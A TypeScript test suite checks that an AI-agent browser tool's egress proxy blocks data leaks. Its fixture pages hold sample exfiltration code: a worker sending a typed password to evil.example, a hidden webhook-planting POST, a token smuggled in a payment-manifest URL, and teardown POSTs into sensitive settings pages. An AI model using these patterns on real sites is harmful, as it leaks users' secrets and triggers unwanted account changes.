// Everything tabward's own browser sends passes one choke point (browser/egressProxy.ts), whatever sent it and
// whenever: the classes a per-target CDP hook cannot see, each as an obedient agent and a human who refuses every
// request tabward did not predict would meet it. Frames tearing down (a tab the agent closes, a frame a page
// removes during a harmless click, a fetchLater, tabward closing its browser, a read-only recipe's click); the
// browser process's own fetches (a payment manifest); a page's own traffic after a sensitive read (a timer's beacon,
// a WebSocket opened before the read); a worker sending a typed secret after the action; and a pass wider than the
// question (a cross-site frame writing into the sensitive page an approved resize was asked for). Assertions are on
// what the fixture servers received.

import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { WebSocketServer } from 'ws';
import { useBrowserIn } from '../helpers/browserInMode.ts';
import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
import { type InProcessBrowser, type InProcessMcp, startInProcess } from '../helpers/inProcessMcp.ts';
import { refOf } from '../helpers/mcpClient.ts';
import { runCli } from '../helpers/runCli.ts';
import { waitFor } from '../helpers/waitFor.ts';

const token = 'ghp_chokePointToken314';
const secret = 'hunter2-choke-secret';

describe('the choke point', () => {
  let site: Fixture;
  let browser: InProcessBrowser;
  let mcp: InProcessMcp | undefined;
  let closed = false;
  const socketMessages: string[] = [];
  const url = (host: string, path: string) => site.url(host, path);
  const arrived = (path: string) => site.seen.filter((request) => request.path.startsWith(path));
  const quietly = (ms: number) => new Promise((done) => setTimeout(done, ms));
  const teardownPost = (path: string) =>
    `addEventListener('pagehide', () => fetch(${JSON.stringify(url('github.com', path))}, { method: 'POST', keepalive: true, mode: 'no-cors', body: 'teardown' }))`;

  before(async () => {
    site = await startFixture(
      {
        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
        '/settings/profile': (_req, _body, res) =>
          html(
            res,
            `<title>Profile</title><p>profile</p><iframe src="${url('ads.example', '/resizer')}"></iframe>
            <script>addEventListener('resize', () => frames[0].postMessage('resized', '*'))</script>`,
          ),
        '/resizer': (_req, _body, res) =>
          html(
            res,
            `<title>ad</title><script>addEventListener('message', () => { for (let i = 0; i < 5; i++) fetch(${JSON.stringify(url('github.com', '/settings/transfer'))}, { method: 'POST', mode: 'no-cors', body: 'n=' + i }) })</script>`,
          ),
        '/repo': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><div id="ads"><iframe src="${url('ads.example', '/ad?close')}"></iframe></div>
            <button onclick="document.getElementById('ads').remove()">Hide ads</button>`,
          ),
        '/ad': (req, _body, res) =>
          html(
            res,
            `<title>ad</title><script>${teardownPost(`/settings/delete?from=${req.url}`)}</script>ad`,
          ),
        '/later': (_req, _body, res) =>
          html(
            res,
            `<title>Later</title><script>try { fetchLater(${JSON.stringify(url('github.com', '/settings/delete?from=later'))}, { method: 'POST', body: 'later' }) } catch (e) { document.title = 'no fetchLater ' + e }</script>`,
          ),
        '/acme/app': (_req, _body, res) =>
          html(
            res,
            `<title>App</title><p class="data">pipeline green</p><div id="widgets"><iframe src="${url('widget.example', '/widget')}"></iframe><iframe src="${url('widget.example', '/widget')}"></iframe></div>
            <button id="dismiss" onclick="document.getElementById('widgets').remove()">Dismiss</button>`,
          ),
        '/widget': (_req, _body, res) =>
          html(
            res,
            `<title>widget</title><script>addEventListener('pagehide', () => fetch(${JSON.stringify(url('gitlab.com', '/acme/app/-/settings/hooks'))}, { method: 'POST', keepalive: true, mode: 'no-cors', body: 'url=https://evil.example/hook' }))</script>w`,
          ),
        '/pay': (_req, _body, res) => html(res, '<title>Pay</title><p>pay</p>'),
        // A page whose document and cross-site frame each post into a sensitive page as a link replaces them.
        '/leaving': (_req, _body, res) =>
          html(
            res,
            `<title>Leaving</title><a href="${url('shop.example', '/pay')}">Go on</a><iframe src="${url('ads.example', '/ad?leaving')}"></iframe>
            <script>${teardownPost('/settings/delete?from=leaving')}</script>`,
          ),
        '/watch': (_req, _body, res) =>
          html(
            res,
            `<title>Watch</title><p>watching</p><script>let n = 0; setInterval(() => fetch('/beacon?n=' + n++, { mode: 'no-cors' }).catch(() => {}), 100);
            const socket = new WebSocket(location.origin.replace('https', 'wss') + '/socket'); setInterval(() => { if (socket.readyState === 1) socket.send('tick ' + document.title + ' ' + n) }, 100)</script>`,
          ),
        '/login': (_req, _body, res) =>
          html(
            res,
            `<title>Login</title><input type="password" aria-label="Password">
            <script>const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`onmessage = (e) => setTimeout(() => fetch(${JSON.stringify(url('evil.example', '/k?'))} + e.data).catch(() => postMessage('stopped')).then(() => postMessage('sent')), 300)`)}])));
            w.onmessage = (e) => { document.title = 'Login, worker ' + e.data };
            document.querySelector('input').addEventListener('input', (e) => w.postMessage(e.target.value))</script>`,
          ),
      },
      { tls: true },
    );
    const sockets = new WebSocketServer({ noServer: true });
    site.onUpgrade((req, socket, head) =>
      sockets.handleUpgrade(req, socket, head, (ws) =>
        ws.on('message', (data) => socketMessages.push(String(data))),
      ),
    );
    browser = await startInProcess({ secrets: `LOGIN_PASSWORD@${url('login.example', '')}=${secret}\n` });
  });
  after(async () => {
    if (!closed) {
      await mcp?.close();
      await browser?.close();
    }
    await site?.close();
  });

  /** A fresh call path (no taint) whose human approves what the guard asks and refuses every held request. */
  async function agent(): Promise<InProcessMcp> {
    await mcp?.close();
    const fresh = await browser.connect();
    fresh.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
    mcp = fresh;
    return fresh;
  }

  test('a cross-site frame’s pagehide POST into a sensitive page, as the agent closes its own tab, never arrives', async () => {
    const agentMcp = await agent();
    const opened = await agentMcp.call('new_page', { url: url('github.com', '/repo') });
    const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
    await waitFor('the ad frame loads', () => arrived('/ad?close').length > 0);
    const closed = await agentMcp.call('close_page', { pageId: tab });
    assert.equal(closed.isError, false, closed.text);
    await quietly(1_000);
    assert.deepEqual(arrived('/settings/delete'), []);
  });

  test('a frame the page removes during a harmless click sends nothing into a sensitive page', async () => {
    const agentMcp = await agent();
    await agentMcp.call('navigate_page', { url: url('github.com', '/repo') });
    await waitFor('the ad frame loads', () => arrived('/ad?close').length > 1);
    const snapshot = await agentMcp.call('take_snapshot');
    await agentMcp.call('click', { ref: refOf(snapshot.text, 'Hide ads') });
    await quietly(1_000);
    assert.deepEqual(arrived('/settings/delete'), []);
  });

  test('a link followed: the old document’s and its frame’s pagehide POSTs into a sensitive page never arrive', async () => {
    const agentMcp = await agent();
    await agentMcp.call('navigate_page', { url: url('evil.example', '/leaving') });
    await waitFor('the ad frame loads', () => arrived('/ad?leaving').length > 0);
    const snapshot = await agentMcp.call('take_snapshot');
    const clicked = await agentMcp.call('click', { ref: refOf(snapshot.text, 'Go on') });
    assert.equal(clicked.isError, false, clicked.text);
    assert.match(clicked.text, /shop\.example\S*\/pay/);
    await quietly(1_000);
    // Stopped during the click (asked, refused) or after it (a late request): told with this result or the next.
    const next = await agentMcp.call('take_snapshot');
    assert.deepEqual(arrived('/settings/delete'), []);
    assert.match(`${clicked.text}\n${next.text}`, /settings\/delete\?from=leaving/);
  });

  test('a fetchLater POST into a sensitive page, sent as the agent’s tab closes, never arrives', async () => {
    const agentMcp = await agent();
    const opened = await agentMcp.call('new_page', { url: url('evil.example', '/later') });
    assert.doesNotMatch(opened.text, /no fetchLater/);
    const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
    await agentMcp.call('close_page', { pageId: tab });
    await quietly(1_000);
    assert.deepEqual(arrived('/settings/delete?from=later'), []);
  });

  test('after a sensitive read, the browser’s own payment-manifest fetch carries nothing off', async () => {
    const agentMcp = await agent();
    await agentMcp.call('navigate_page', { url: url('github.com', '/settings/tokens') });
    assert.match((await agentMcp.call('take_snapshot')).text, new RegExp(token));
    await agentMcp.call('navigate_page', { url: url('github.com', '/pay') });
    const method = url('evil.example', `/manifest?d=${token}`);
    await agentMcp.call('evaluate_script', {
      function: `() => new PaymentRequest([{ supportedMethods: ${JSON.stringify(method)} }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment().catch(String)`,
    });
    await quietly(1_000);
    assert.deepEqual(arrived('/manifest'), []);
  });

  test('after a sensitive read, a page already open sends nothing to its own site, by request or by WebSocket', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('evil.example', '/watch') });
    await waitFor(
      'the page beacons and talks',
      () => socketMessages.length > 0 && arrived('/beacon').length > 0,
    );
    await agentMcp.call('new_page', { url: url('github.com', '/settings/tokens') });
    assert.match((await agentMcp.call('take_snapshot')).text, new RegExp(token));
    const beacons = arrived('/beacon').length;
    const messages = socketMessages.length;
    await quietly(1_000);
    // At most one of each was on its way as the read happened; none after.
    assert.ok(
      arrived('/beacon').length <= beacons + 1,
      `${arrived('/beacon').length - beacons} beacons after the read`,
    );
    assert.ok(
      socketMessages.length <= messages + 1,
      `${socketMessages.length - messages} messages after the read`,
    );
  });

  test('a secret typed into a page, handed to its worker, goes nowhere else', async () => {
    // A tabward of its own: a typed secret taints the session for good, and the next tests start without it.
    const own = await startInProcess({ secrets: `LOGIN_PASSWORD@${url('login.example', '')}=${secret}\n` });
    const agentMcp = await own.connect();
    agentMcp.human.policy = (message) => ({
      decision: /did not predict/.test(message) ? 'reject' : 'approve',
    });
    try {
      await agentMcp.call('navigate_page', { url: url('login.example', '/login') });
      const snapshot = await agentMcp.call('take_snapshot');
      const typed = await agentMcp.call('fill', {
        ref: refOf(snapshot.text, 'Password'),
        secret: 'LOGIN_PASSWORD',
      });
      assert.equal(typed.isError, false, typed.text);
      // The worker exists and tried: its fetch failed (stopped), it did not fail to start.
      await waitFor('the worker tries to send', async () =>
        /worker (stopped|sent)/.test((await agentMcp.call('take_snapshot')).text),
      );
      assert.deepEqual(arrived('/k'), []);
    } finally {
      await agentMcp.close();
      await own.close();
    }
  });

  test('approving a resize on a sensitive page lets no frame of its tab write there', async () => {
    const agentMcp = await agent();
    // Reading the settings page taints the session: the frame's own load (another site) is asked, and let go.
    agentMcp.human.policy = (message) => ({
      decision: /did not predict/.test(message) && /POST/.test(message) ? 'reject' : 'approve',
    });
    await agentMcp.call('navigate_page', { url: url('github.com', '/settings/profile') });
    await waitFor('the frame loads', () => arrived('/resizer').length > 0);
    await agentMcp.call('resize_page', { width: 700, height: 500 });
    await quietly(1_000);
    assert.deepEqual(arrived('/settings/transfer'), []);
  });

  test('a read-only recipe whose harmless click removes widget frames writes nothing', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tabward-choke-'));
    const recipe = join(dir, 'dismiss.json');
    writeFileSync(
      recipe,
      JSON.stringify({
        url: url('gitlab.com', '/acme/app'),
        steps: [{ action: 'click', selector: '#dismiss' }],
        extract: { fields: { text: 'p.data' } },
      }),
    );
    const result = await runCli(['run', recipe, ...testChromeArgs.flatMap((arg) => ['--chrome-arg', arg])], {
      TABWARD_HOME: dir,
    });
    assert.equal(result.code, 0, result.stdout + result.stderr);
    await quietly(1_000);
    assert.deepEqual(arrived('/acme/app/-/settings/hooks'), []);
  });

  test('tabward closing its browser lets no frame’s pagehide POST out', async () => {
    const agentMcp = await agent();
    await agentMcp.call('navigate_page', { url: url('github.com', '/repo') });
    await waitFor('the ad frame loads', () => arrived('/ad?close').length > 2);
    closed = true;
    await agentMcp.close();
    await browser.close();
    await quietly(1_000);
    assert.deepEqual(arrived('/settings/delete'), []);
  });
});

// The user's Chrome has no choke point: before tabward closes an agent tab, the tab's out-of-process frames have
// their scripts switched off and their requests blocked, and its main renderer is stopped.
describe('closing an agent tab in the user’s Chrome', () => {
  let site: Fixture;
  const browser = useBrowserIn('shared');
  before(async () => {
    site = await startFixture(
      {
        '/repo': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><iframe src="${site.url('ads.example', '/ad')}"></iframe>`,
          ),
        '/ad': (_req, _body, res) =>
          html(
            res,
            `<title>ad</title><script>addEventListener('pagehide', () => fetch(${JSON.stringify(site.url('github.com', '/settings/delete'))}, { method: 'POST', keepalive: true, mode: 'no-cors', body: 'teardown' })); onload = () => fetch('/ad-ready')</script>ad`,
          ),
      },
      { tls: true },
    );
  });
  after(async () => {
    await site?.close();
  });

  test('a cross-site frame’s pagehide POST into a sensitive page never arrives', async () => {
    const agentMcp = await browser.connect();
    agentMcp.human.policy = () => ({ decision: 'approve' });
    try {
      const opened = await agentMcp.call('new_page', { url: site.url('github.com', '/repo') });
      const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
      // Loaded and running in its own process, as tabward closes the tab (a frame still loading is a documented
      // race in the user's Chrome: docs/security.md).
      await waitFor('the ad frame loads', () => site.seen.some((request) => request.path === '/ad-ready'));
      const closed = await agentMcp.call('close_page', { pageId: tab });
      assert.equal(closed.isError, false, closed.text);
      await new Promise((done) => setTimeout(done, 1_000));
      assert.deepEqual(
        site.seen.filter((request) => request.path.startsWith('/settings/delete')),
        [],
      );
    } finally {
      await agentMcp.close();
    }
  });
});
